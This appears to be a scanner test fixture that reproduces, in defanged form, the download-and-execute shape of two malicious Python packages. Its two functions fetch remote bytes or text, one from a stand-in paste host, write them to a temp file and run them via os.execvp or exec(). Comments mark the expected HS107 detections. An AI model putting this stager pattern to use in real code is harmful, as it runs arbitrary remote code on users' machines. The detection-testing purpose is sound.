# Shape of "oncecall" and "screencaptned" (2024-2025): the stage is written
# through tempfile.NamedTemporaryFile and run by its `.name`: a native
# binary with os.execvp, Python with exec(open(...).read()). Defanged:
# example.invalid; nothing is fetched.
import os
import tempfile
import zlib
from urllib.request import urlopen

import requests


def native(u):
    with urlopen(u, timeout=10) as resp:
        e = resp.read()
    d = zlib.decompress(e)
    with tempfile.NamedTemporaryFile(delete=False, suffix=".bin") as f:
        f.write(d)
        tmp_path = f.name
    os.chmod(tmp_path, 0o755)  # expect: HS107 critical
    os.execvp(tmp_path, [tmp_path])  # expect: HS107 critical


def script():
    contenu = requests.get("https://paste.example.invalid/raw/x").text
    with tempfile.NamedTemporaryFile(mode="w", delete=False) as temp_file:
        temp_file.write(contenu)
        temp_file_path = temp_file.name
    exec(open(temp_file_path).read(), globals())  # expect: HS107 critical
